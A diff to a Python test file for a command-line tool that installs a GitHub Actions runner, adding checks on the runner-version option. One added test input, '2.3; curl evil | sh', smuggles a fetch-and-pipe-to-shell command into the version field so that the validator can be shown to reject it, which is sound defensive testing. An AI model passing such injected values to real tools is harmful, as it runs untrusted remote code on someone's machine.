@@ -81,6 +81,7 @@ def test_runner_refuses_system_users_and_folders() -> None:
         ["--data-dir", "/Users"],
         ["--install-dir", "/Users/Shared/pgolf-runner"],
         ["--install-dir", "/usr/local"],
+        ["--runner-version", "2.3; curl evil | sh"],
     ):
         res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", *args])
         assert res.exit_code == InputError.exit_code and args[0] in res.output, (args, res.output)
@@ -88,3 +89,9 @@ def test_runner_refuses_system_users_and_folders() -> None:
 
     for spelling in ("https://GitHub.com", "https://github.com:443", "https://www.github.com/"):
         assert RunnerPlan("me/lab", server=spelling).api_base == "https://api.github.com", spelling
+
+
+def test_runner_version_is_chosen_and_lands_in_the_download() -> None:
+    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--runner-version", "2.330.0"])
+    assert res.exit_code == 0
+    assert "releases/download/v2.330.0/actions-runner-osx-arm64-2.330.0.tar.gz" in res.output
